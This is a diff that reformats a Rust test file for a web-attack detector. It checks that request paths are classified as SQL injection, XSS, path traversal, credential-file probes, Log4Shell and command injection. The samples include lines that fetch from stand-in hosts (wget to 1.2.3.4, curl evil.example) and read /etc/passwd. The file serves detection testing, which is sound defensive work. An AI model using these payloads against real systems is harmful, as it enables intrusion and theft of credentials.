@@ -96,24 +96,45 @@ fn maltrail_direct_ip_url_vectors_agree() {
 fn classes_with_evidence() {
     let cases: &[(&str, Heuristic)] = &[
         ("/p?id=1%27%20OR%20%271%27%3D%271", Heuristic::SqlInjection),
-        ("/p?id=1%27+UNION+SELECT+NULL%2C+version%28%29+%23", Heuristic::SqlInjection),
+        (
+            "/p?id=1%27+UNION+SELECT+NULL%2C+version%28%29+%23",
+            Heuristic::SqlInjection,
+        ),
         ("/p?id=1/**/union/**/select/**/1,2", Heuristic::SqlInjection),
         ("/p?id=1;waitfor%20delay%20'0:0:5'", Heuristic::SqlInjection),
         ("/p?id=sleep(5)", Heuristic::SqlInjection),
         ("/p?u=admin%27--", Heuristic::SqlInjection),
         ("/p?q=%253Cscript%253Ealert(1)", Heuristic::Xss),
-        ("/p?q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E", Heuristic::Xss),
+        (
+            "/p?q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E",
+            Heuristic::Xss,
+        ),
         ("/p?next=javascript:alert(document.cookie)", Heuristic::Xss),
         ("/p?u=*)(uid=*))(|(uid=*", Heuristic::LdapInjection),
-        ("/p?f=php://filter/convert.base64-encode/resource=index", Heuristic::PhpInjection),
-        ("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", Heuristic::PhpInjection),
+        (
+            "/p?f=php://filter/convert.base64-encode/resource=index",
+            Heuristic::PhpInjection,
+        ),
+        (
+            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+            Heuristic::PhpInjection,
+        ),
         ("/p?name={{config.__class__}}", Heuristic::TemplateInjection),
-        ("/p?x=%24%7BT(java.lang.Runtime).getRuntime()%7D", Heuristic::RemoteCodeExecution),
+        (
+            "/p?x=%24%7BT(java.lang.Runtime).getRuntime()%7D",
+            Heuristic::RemoteCodeExecution,
+        ),
         ("/p?x=<%25=%207*7%20%25>", Heuristic::TemplateInjection),
-        ("/..%c0%af..%c0%af..%c0%afetc/passwd", Heuristic::PathTraversal),
+        (
+            "/..%c0%af..%c0%af..%c0%afetc/passwd",
+            Heuristic::PathTraversal,
+        ),
         ("/%2e%2e/images.gif", Heuristic::PathTraversal),
         ("/../a/b/../c/./d.html", Heuristic::PathTraversal),
-        ("//index.php?page=../../../etc/passwd", Heuristic::PathTraversal),
+        (
+            "//index.php?page=../../../etc/passwd",
+            Heuristic::PathTraversal,
+        ),
         ("/p?url=file:///etc/shadow", Heuristic::PathTraversal),
         ("/p?f=..%5c..%5cwindows%5cwin.ini", Heuristic::PathTraversal),
         ("/.env", Heuristic::ConfigFileAccess),
@@ -121,13 +142,31 @@ fn classes_with_evidence() {
         ("/blog/wp-config.php.bak", Heuristic::ConfigFileAccess),
         ("/.aws/credentials", Heuristic::ConfigFileAccess),
         ("/x?cmd=%60id%60", Heuristic::RemoteCodeExecution),
-        ("/x?ip=1.1.1.1%7Cwget%20http://1.2.3.4/x", Heuristic::RemoteCodeExecution),
-        ("/x?ip=127.0.0.1%0acat%20/etc/passwd", Heuristic::RemoteCodeExecution),
-        ("/x?c=$(curl%20evil.example)", Heuristic::RemoteCodeExecution),
-        ("/x?redirect=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", Heuristic::RemoteCodeExecution),
-        ("/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", Heuristic::RemoteCodeExecution),
+        (
+            "/x?ip=1.1.1.1%7Cwget%20http://1.2.3.4/x",
+            Heuristic::RemoteCodeExecution,
+        ),
+        (
+            "/x?ip=127.0.0.1%0acat%20/etc/passwd",
+            Heuristic::RemoteCodeExecution,
+        ),
+        (
+            "/x?c=$(curl%20evil.example)",
+            Heuristic::RemoteCodeExecution,
+        ),
+        (
+            "/x?redirect=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
+            Heuristic::RemoteCodeExecution,
+        ),
+        (
+            "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            Heuristic::RemoteCodeExecution,
+        ),
         ("/x?mac=00:11:22:33:44:55", Heuristic::DataLeakage),
-        ("/cgi-bin/dns?primary_dns=6.6.6.6&secondary_dns=6.6.6.7", Heuristic::DnsChanger),
+        (
+            "/cgi-bin/dns?primary_dns=6.6.6.6&secondary_dns=6.6.6.7",
+            Heuristic::DnsChanger,
+        ),
         ("/x?u=http://abc.oastify.com", Heuristic::ScannerProbe),
     ];
     let mut wrong = Vec::new();
@@ -135,7 +174,10 @@ fn classes_with_evidence() {
         let got = classify_get(target, "site.example");
         match &got {
             Some(v) if v.heuristic == *want => {
-                assert!(!v.reason.is_empty() && v.trail.starts_with("site.example("), "{v:?}");
+                assert!(
+                    !v.reason.is_empty() && v.trail.starts_with("site.example("),
+                    "{v:?}"
+                );
             }
             _ => wrong.push(format!("{target}: want {want:?}, got {got:?}")),
         }
@@ -167,7 +209,13 @@ fn log4shell_obfuscations_are_seen() {
         }
     }
     // Harmless lookups and braces are not log4shell.
-    for p in ["${env:HOME}", "${lower:ABC}", "{\"a\":\"${x}\"}", "${", "${${${"] {
+    for p in [
+        "${env:HOME}",
+        "${lower:ABC}",
+        "{\"a\":\"${x}\"}",
+        "${",
+        "${${${",
+    ] {
         let h = format!("X-Template: {p}");
         let payload = raw("GET", "/", &["Host: a.example", "User-Agent: t", &h], "");
         assert!(
@@ -261,12 +309,22 @@ fn downloads_and_probes() {
 
 #[test]
 fn switches_turn_classes_off() {
-    let payload = raw("GET", "/p?id=1%20union%20select%201", &["Host: a", "User-Agent: t"], "");
+    let payload = raw(
+        "GET",
+        "/p?id=1%20union%20select%201",
+        &["Host: a", "User-Agent: t"],
+        "",
+    );
     let config = ContentConfig::default().without(Heuristic::SqlInjection);
     assert!(classify_raw(&payload, public(), &config).is_none());
     assert!(classify_raw(&payload, public(), &ContentConfig::default()).is_some());
     // Data leakage towards a local server is not reported.
-    let payload = raw("GET", "/x?imei=123456789012345", &["Host: a", "User-Agent: t"], "");
+    let payload = raw(
+        "GET",
+        "/x?imei=123456789012345",
+        &["Host: a", "User-Agent: t"],
+        "",
+    );
     let local: IpAddr = "10.1.2.3".parse().unwrap();
     assert!(classify_raw(&payload, local, &ContentConfig::default()).is_none());
 }
